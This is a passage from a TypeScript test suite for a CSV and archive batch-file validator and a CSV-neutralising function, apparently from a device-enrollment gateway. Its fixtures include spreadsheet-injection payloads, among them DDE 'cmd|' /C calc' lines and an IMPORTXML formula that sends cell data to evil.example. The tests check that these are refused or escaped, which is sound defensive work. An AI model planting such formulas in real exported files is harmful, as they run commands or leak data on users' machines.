    expect((await problemsOf(fileOf(sevenZip), CLIENT_SIDE))[0]?.message).toMatch(/archive \(7-Zip\)/);
  });

  it("sniffs an archive's signature even when the file arrives a few bytes at a time", async () => {
    const tar = Buffer.alloc(1024);
    tar.write("ustar\u000000", 257, "latin1");
    expect(await problemsOf(fileOf(tar, 3), SERVER_SIDE)).toEqual([
      whole("The data file is an archive (tar); upload a CSV, or a ZIP of one CSV or of CSR files."),
    ]);
  });
});

describe("cells a spreadsheet would run as a formula", () => {
  const formula = (trigger: string) =>
    `The cell starts with ${trigger}, which a spreadsheet would run as a formula (CSV injection); remove that character.`;

  it("are refused with row and column: =, +, -, @, a tab, a carriage return", async () => {
    const data = csv([
      ["device_name", "subject.common_name", "device_description"],
      ["device-1", "device-1.example.com", '=HYPERLINK("http://evil.example")'],
      ["+device-2", "device-2.example.com", "fine"],
      ["device-3", "-2+3+cmd|' /C calc'!A0", "fine"],
      ["device-4", "device-4.example.com", "@SUM(1+1)"],
      // Quoted (it has a comma): an unquoted cell's tab is trimmed, and the = behind it is found instead.
      ["device-5", "device-5.example.com", "\t=1+1, tab first"],
      ["device-6", "device-6.example.com", "\r=1+1"],
      ["device-7", "device-7.example.com", "a - b = c, @ 10:00"],
    ]);
    expect(await problemsOf(fileOf(data), SERVER_SIDE)).toEqual([
      { row: 1, column: "device_description", entry: null, message: formula('"="') },
      { row: 2, column: "device_name", entry: null, message: formula('"+"') },
      { row: 3, column: "subject.common_name", entry: null, message: formula('"-"') },
      { row: 4, column: "device_description", entry: null, message: formula('"@"') },
      { row: 5, column: "device_description", entry: null, message: formula("a tab") },
      { row: 6, column: "device_description", entry: null, message: formula("a carriage return") },
    ]);
  });

  it("are found past leading spaces, in a quoted cell as in an unquoted one", async () => {
    const data = 'device_name,subject.common_name\n"  =1+1",d.example.com\n   @x   ,d.example.com\n';
    const problems = await problemsOf(fileOf(data), SERVER_SIDE);
    expect(problems.map(({ row, column }) => [row, column])).toEqual([
      [1, "device_name"],
      [2, "device_name"],
    ]);
  });

  it("are allowed in the csr column only as the PEM's -----BEGIN; a csr cell with = is refused as a formula, not parsed", async () => {
    await expect(checkBatchFile(fileOf(clientCsv(csrs.slice(0, 2))), CLIENT_SIDE)).resolves.toEqual({
      format: "CSV",
      rows: 2,
    });
    const pems = [csrs[0]!, '=IMPORTXML(CONCAT("http://evil.example/?", A1))'];
    expect(await problemsOf(fileOf(clientCsv(pems)), CLIENT_SIDE)).toEqual([
      { row: 2, column: "csr", entry: null, message: formula('"="') },
    ]);
  });

  it("include negative numbers and +-prefixed values: no documented column is numeric", async () => {
    const data = csv([
      ["device_name", "subject.common_name", "device_description"],
      ["device-1", "device-1.example.com", "-40"],
      ["device-2", "device-2.example.com", "+44 20 7946 0000"],
    ]);
    const problems = await problemsOf(fileOf(data), SERVER_SIDE);
    expect(problems.map(({ row, column }) => [row, column])).toEqual([
      [1, "device_description"],
      [2, "device_description"],
    ]);
  });

  it("are refused in the header too", async () => {
    const data = csv([
      ["device_name", "subject.common_name", "=cmd|' /C calc'!A0"],
      ["device-1", "device-1.example.com", "x"],
    ]);
    expect(await problemsOf(fileOf(data), { ...SERVER_SIDE, knownColumns: null })).toEqual([
      whole(
        'Header cell 3 starts with "=", which a spreadsheet would run as a formula; a column name cannot.',
      ),
    ]);
  });

  it("in a ZIP's CSV are named by entry, row and column", async () => {
    const data = csv([
      ["device_name", "subject.common_name"],
      ["device-1", "device-1.example.com"],
      ["@device-2", "device-2.example.com"],
    ]);
    expect(await problemsOf(blobOf(zipOf([["devices.csv", data]])), SERVER_SIDE)).toEqual([
      { row: 2, column: "device_name", entry: "devices.csv", message: formula('"@"') },
    ]);
  });
});

describe("IoT's batch file rules, from the enrollment specification", () => {
  const field = (id: string, name: string, multiple = false): EnrollmentField => ({
    id,
    name,
    kind: id.startsWith("subject.") || id.startsWith("san.") ? "CERTIFICATE" : "DEVICE",
    required: false,
    multiple,
    fixedValue: null,
  });
  const SITE = "97cb838e-b61f-4419-abbd-23a87b406676";
  const FIELDS = [
    field("subject.common_name", "Common name"),
    field("san.dns_name", "DNS name", true),
    field("DEVICE_IDENTIFIER", "Device identifier"),
    field(SITE, "Site"),
  ];

  it("reads a header of field ids or names in any case, with a csr column client-side", async () => {
    const data = csv([
      ["CSR", "Common Name", "san.dns_name", "DNS name", "device_identifier", "Site"],
      [csrs[0]!, "a.example.com", "a.example.com", "b.example.com", "A", "Plant 9"],
    ]);
    await expect(checkBatchFile(fileOf(data), iotBatchFileRules(FIELDS, false))).resolves.toEqual({
      format: "CSV",
      rows: 1,
    });
  });

  it("refuses a field named twice, by id and by name; an unknown column; and a csr column server-side", async () => {
    const twice = csv([
      ["csr", "subject.common_name", "common name"],
      [csrs[0]!, "a.example.com", "a.example.com"],
    ]);
    expect(await problemsOf(fileOf(twice), iotBatchFileRules(FIELDS, false))).toEqual([
      {
        row: null,
        column: "subject.common_name",
        entry: null,
        message: "Header cells 2, 3 name the same column, which takes one value.",
      },
    ]);
    const unknown = csv([
      ["csr", "subject.common_name", "colour"],
      [csrs[0]!, "a.example.com", "blue"],
    ]);
    expect((await problemsOf(fileOf(unknown), iotBatchFileRules(FIELDS, false)))[0]?.message).toMatch(
      /^Header cell 3 names a column the template does not have/,
    );
    const serverSide = await problemsOf(fileOf(unknown), iotBatchFileRules(FIELDS, true));
    expect(serverSide).toContainEqual(expect.objectContaining({ column: "csr" }));
  });

  it("names a formula cell's column as the header wrote it", async () => {
    const data = csv([
      ["csr", "subject.common_name", "Site"],
      [csrs[0]!, "a.example.com", "=1+1"],
    ]);
    expect(await problemsOf(fileOf(data), iotBatchFileRules(FIELDS, false))).toEqual([
      { row: 1, column: "site", entry: null, message: formula('"="') },
    ]);
  });

  const formula = (trigger: string) =>
    `The cell starts with ${trigger}, which a spreadsheet would run as a formula (CSV injection); remove that character.`;
});

describe("neutraliseCsv, for CSV the gateway emits", () => {
  const TEMPLATE = '"device_name","device_description","subject.common_name","csr"\r\n';

  it("leaves a safe CSV byte for byte as it was: quoting, spaces and line ends included", () => {
    const safe = `${TEMPLATE}plain, spaced ,"quoted, with comma","say ""hi""",\r\n"multi\nline",x\n`;
    expect(neutraliseCsv(safe)).toBe(safe);
  });

  it("prefixes a single quote to each cell starting with =, +, -, @, a tab or a carriage return, and quotes it", () => {
    expect(neutraliseCsv('=1+1,+2,-3,@SUM(A1),"\t=x","\r=y",ok\n')).toBe(
      `"'=1+1","'+2","'-3","'@SUM(A1)","'\t=x","'\r=y",ok\n`,
    );
    expect(neutraliseCsv('a,=HYPERLINK("http://evil.example"),"  =1"\r\n  -2,b')).toBe(
      `a,"'=HYPERLINK(""http://evil.example"")","'  =1"\r\n"'  -2",b`,
    );
  });

  it("reads back as the same cells, each formula one as text behind a single quote", () => {
    const text = 'name,note\n=cmd|\' /C calc\'!A0,"-1, with comma"\n"@x",plain\n';
    const cells = parse(neutraliseCsv(text)) as string[][];
    expect(cells).toEqual([
      ["name", "note"],
      ["'=cmd|' /C calc'!A0", "'-1, with comma"],
      ["'@x", "plain"],
    ]);
  });

  it("is idempotent", () => {
    const once = neutraliseCsv('=1,"+2",-3\n@4\n');
    expect(neutraliseCsv(once)).toBe(once);
  });

  it("gives the same text whatever pieces a stream splits it into", () => {
    const text = `${TEMPLATE}=1+1,"-2 ""q""",x\r\n  @a,"\tb","multi\n=line"\n+end`;
    const whole = neutraliseCsv(text);
    for (const size of [1, 2, 3, 5, 8, 13]) {
      const neutraliser = new CsvNeutraliser();
      let out = "";
      for (let at = 0; at < text.length; at += size) out += neutraliser.push(text.slice(at, at + size));
      expect(out + neutraliser.end()).toBe(whole);
    }
  });

  it("neutraliseCsvCell makes one value a safe CSV field", () => {
    expect(neutraliseCsvCell("=1+1")).toBe(`"'=1+1"`);
    expect(neutraliseCsvCell('@a"b')).toBe(`"'@a""b"`);
    expect(neutraliseCsvCell("a,b")).toBe('"a,b"');
    expect(neutraliseCsvCell("plain")).toBe("plain");
  });
});
